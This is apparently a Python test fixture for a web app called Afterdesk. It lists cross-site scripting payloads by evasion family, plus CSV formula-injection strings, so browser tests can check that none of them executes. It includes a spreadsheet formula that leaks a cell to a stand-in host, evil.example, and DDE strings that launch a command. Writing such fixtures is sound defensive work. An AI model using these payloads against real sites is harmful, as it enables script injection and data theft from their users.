"""Hostile text, kept as data: what a buyer, a storefront, a carrier or a colleague may type into any field
Afterdesk shows. Each payload carries an id (`x001` ...) and, if it ever ran, calls `alert('<id>')` or
`window.__xss('<id>')` with it, so a browser test that hooks both names says which payload escaped and
where it came from.

Families follow the OWASP XSS filter-evasion cheat sheet and PortSwigger's XSS cheat sheet, plus what is
particular to this stack: Django and Jinja template syntax (a buyer name must never be rendered as a
template), htmx attributes (`hx-on`, which htmx would run if markup got through), spreadsheet formulas
(the CSV exports) and the NUL character (refused by the API and the forms; no PostgreSQL text takes it).
"""

from __future__ import annotations

from dataclasses import dataclass

NUL = "\x00"


@dataclass(frozen=True)
class Payload:
    id: str
    family: str
    text: str

    @property
    def storable(self) -> bool:
        """Whether a database text column can hold it (PostgreSQL refuses NUL in text)."""
        return NUL not in self.text

    @property
    def marker(self) -> str:
        """What shows, whatever else a page truncates: the id is in every payload."""
        return self.id


# (family, payloads): `{id}` is replaced by the payload's id. A comment per family says what it probes.
_FAMILIES: list[tuple[str, list[str]]] = [
    # Plain script elements, in the spellings filters miss: case, attributes, a slash for a space, an
    # unclosed tag, a nested tag a naive "remove <script>" filter would reassemble.
    (
        "script",
        [
            "<script>alert('{id}')</script>",
            "<SCRIPT>window.__xss('{id}')</SCRIPT>",
            "<script type=\"text/javascript\">window.__xss('{id}')</script>",
            "<script/src=data:,window.__xss('{id}')></script>",
            "<scr<script>ipt>alert('{id}')</scr</script>ipt>",
            "<script>/*</script><script>*/window.__xss('{id}')</script>",
            "<ScRiPt >window.__xss('{id}')</ScRiPt >",
            "<script\n>alert('{id}')</script\n>",
            "<<script>alert('{id}');//<</script>",
            "<script>alert`{id}`</script>",
        ],
    ),
    # Event handlers on elements that fire without a click: broken images, media, focus, toggles.
    (
        "event handler",
        [
            "<img src=x onerror=alert('{id}')>",
            "<img src=x onerror=\"window.__xss('{id}')\">",
            "<IMG SRC=/ onerror=alert('{id}')>",
            "<img src onerror=window.__xss('{id}')>",
            "<body onload=alert('{id}')>",
            "<input autofocus onfocus=window.__xss('{id}')>",
            "<details open ontoggle=window.__xss('{id}')>",
            "<video><source onerror=\"window.__xss('{id}')\"></video>",
            "<audio src=x onerror=alert('{id}')>",
            "<iframe onload=window.__xss('{id}')></iframe>",
            "<marquee onstart=alert('{id}')>",
            "<select autofocus onfocus=window.__xss('{id}')></select>",
            "<textarea autofocus onfocus=alert('{id}')>",
            '<div onmouseover="alert(\'{id}\')" style="position:fixed;inset:0">',
            "<object data=x onerror=window.__xss('{id}')>",
        ],
    ),
    # SVG: its own parser rules, `onload` on the root, script inside, animation that sets an href.
    (
        "svg",
        [
            "<svg onload=alert('{id}')>",
            "<svg/onload=window.__xss('{id}')>",
            "<svg><script>window.__xss('{id}')</script></svg>",
            "<svg><animate onbegin=window.__xss('{id}') attributeName=x dur=1s>",
            "<svg><a><animate attributeName=href values=javascript:alert('{id}') /><text x=20 y=20>go</text></a>",
            "<svg><foreignObject><img src=x onerror=window.__xss('{id}')></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='a' onload='alert(1)'/>#a\"/><script>alert('{id}')</script>",
            "<svg><style><img src=x onerror=window.__xss('{id}')></style></svg>",
        ],
    ),
    # URLs that become links: a note, a carrier's tracking URL, a template, an evidence name.
    (
        "url scheme",
        [
            "javascript:alert('{id}')",
            "JaVaScRiPt:window.__xss('{id}')",
            " javascript:window.__xss('{id}')",
            "java\tscript:alert('{id}')",
            "javascript&colon;alert('{id}')",
            "data:text/html,<script>alert('{id}')</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== window.__xss('{id}')",
            "[track it](javascript:window.__xss('{id}'))",
            "<a href=\"javascript:alert('{id}')\">track it</a>",
            "https://track.example/?n=1\" onclick=\"alert('{id}')",
        ],
    ),
    # Template syntax of every engine a value might meet: Django, Jinja, AngularJS sandbox escapes, JS
    # template literals, ERB, and this project's own {placeholder} format.
    (
        "template",
        [
            "{{7*7}}<script>window.__xss('{id}')</script>",
            "{% debug %}<img src=x onerror=alert('{id}')>",
            "${alert('{id}')}",
            "{{constructor.constructor('window.__xss(\"{id}\")')()}}",
            "{{ settings.SECRET_KEY }}{% load log %}<svg onload=window.__xss('{id}')>",
            "#{alert('{id}')}",
            "<%= alert('{id}') %>",
            "{buyer_name}{order_id}{{buyer_name}} ${window.__xss('{id}')}",
            "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(\"{id}\")')}}",
            "{% include 'base.html' %}{{ request.user.password }} alert('{id}')",
        ],
    ),
    # Right-to-left override and friends: a file name that reads `...exe` backwards, hidden direction marks.
    (
        "bidi",
        [
            "\u202egpj.exe<script>alert('{id}')</script>",
            "invoice\u202efdp.<img src=x onerror=alert('{id}')>.jpg",
            "\u202d\u202e<svg onload=window.__xss('{id}')>\u202c",
            "\u2066\u2067<img src=x onerror=window.__xss('{id}')>\u2069",
            "\u200f\u061c\u202b\"><script>alert('{id}')</script>",
        ],
    ),
    # Breaking out of an attribute value (double, single, back-quoted, unquoted) or a title/link.
    (
        "attribute breakout",
        [
            "\"><script>alert('{id}')</script>",
            "' onmouseover='alert(\"{id}\")",
            "\" autofocus onfocus=\"window.__xss('{id}')",
            "\\\"><img src=x onerror=alert('{id}')>",
            "'><svg onload=window.__xss('{id}')>",
            "\" style=\"x:expression(alert('{id}'))",
            "` onmouseover=alert('{id}') `",
            "</title><script>window.__xss('{id}')</script>",
            "x onfocus=alert('{id}') autofocus",
            "\"/><img src=x onerror=window.__xss('{id}')>",
            "'\"><img src=x onerror=alert('{id}')>",
            '" hx-get="/cases/" hx-trigger="load" hx-on::before-request="window.__xss(\'{id}\')',
        ],
    ),
    # HTML entities: escaped text must show as written (no double-decoding), and entity-encoded handlers
    # must not reach an attribute.
    (
        "entity",
        [
            "&lt;script&gt;alert('{id}')&lt;/script&gt;",
            "&#60;img src=x onerror=alert('{id}')&#62;",
            "<img src=x onerror=&#97;lert('{id}')>",
            "<a href=\"&#106;avascript:alert('{id}')\">x</a>",
            "&quot;&gt;<script>window.__xss('{id}')</script>",
            "<img src=x onerror=\"&#x77;indow.__xss('{id}')\">",
            "%3Cscript%3Ealert('{id}')%3C/script%3E",
            "\\u003cscript\\u003ewindow.__xss('{id}')\\u003c/script\\u003e",
        ],
    ),
    # Closing the element the value sits in: a textarea, a script, a style, a comment, a table, a select.
    (
        "closing tag",
        [
            "</textarea><script>alert('{id}')</script>",
            "</script><script>window.__xss('{id}')</script>",
            "</style><img src=x onerror=alert('{id}')>",
            "</noscript><img src=x onerror=window.__xss('{id}')>",
            "</option></select><img src=x onerror=alert('{id}')>",
            "</td></tr></table><svg onload=window.__xss('{id}')>",
            "<!--<img src=\"--><img src=x onerror=alert('{id}')//\">",
            "]]></template><script>window.__xss('{id}')</script>",
        ],
    ),
    # CSS: IE's expression(), javascript: in url(), @import, and a style block that closes itself.
    (
        "css",
        [
            "<div style=\"width:expression(alert('{id}'))\">",
            "<style>@import 'javascript:alert(\"{id}\")';</style>",
            "<div style=\"background:url(javascript:window.__xss('{id}'))\">x</div>",
            "x{}</style><script>alert('{id}')</script>",
            "<style>*{background:url(\"javascript:alert('{id}')\")}</style>",
            "color:red;background:expression(window.__xss('{id}'))",
        ],
    ),
    # htmx gadgets: if markup got through, htmx (loaded on every page) would run these attributes.
    (
        "htmx",
        [
            '<div hx-get="/cases/" hx-trigger="load" hx-on::after-request="alert(\'{id}\')">',
            "<button hx-on:click=\"alert('{id}')\" autofocus>ok</button>",
            "<div data-hx-on:htmx:load=\"window.__xss('{id}')\"></div>",
            "<img src=x hx-on:error=\"window.__xss('{id}')\">",
            '<a hx-get="javascript:alert(\'{id}\')" hx-trigger="load">x</a>',
            "<form><button formaction=\"javascript:window.__xss('{id}')\">x</button></form>",
        ],
    ),
    # Polyglots and parser mutations (mXSS): one string that breaks out of many contexts.
    (
        "polyglot",
        [
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('{id}') )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('{id}')//>\\x3e",
            "<noscript><p title=\"</noscript><img src=x onerror=alert('{id}')>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss('{id}')>",
            "<iframe srcdoc=\"<script>parent.__xss('{id}')</script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert('{id}')</script>\"></object>",
            "<embed src=\"javascript:window.__xss('{id}')\">",
        ],
    ),
    # The NUL character inside a tag or a scheme (browsers drop it). The API and the forms refuse it; an
    # uploaded file's name loses it.
    (
        "nul",
        [
            "<scr\x00ipt>alert('{id}')</scr\x00ipt>",
            "<img src=x onerror\x00=window.__xss('{id}')>",
            "java\x00script:alert('{id}')",
            "x\x00<svg onload=window.__xss('{id}')>",
        ],
    ),
    # Look-alikes and script-string breakouts: full-width brackets, zero-width joiners, a JS string closed
    # early (for a value ever put into a script).
    (
        "unicode and js string",
        [
            "\uff1cscript\uff1ealert('{id}')\uff1c/script\uff1e",
            "<scr\u200dipt>alert('{id}')</scr\u200dipt><img src=x onerror=window.__xss('{id}')>",
            "\u2028';window.__xss('{id}');//",
            "\\\";alert('{id}');//",
            "'-alert('{id}')-'",
        ],
    ),
]


def _build() -> list[Payload]:
    payloads: list[Payload] = []
    for family, texts in _FAMILIES:
        for text in texts:
            pid = f"x{len(payloads) + 1:03d}"
            payloads.append(Payload(id=pid, family=family, text=text.replace("{id}", pid)))
    return payloads


PAYLOADS: list[Payload] = _build()
BY_ID: dict[str, Payload] = {p.id: p for p in PAYLOADS}
STORABLE: list[Payload] = [p for p in PAYLOADS if p.storable]

# Spreadsheet formulas (OWASP CSV injection): a cell starting with one of these must reach the CSV inert.
FORMULAS: list[str] = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
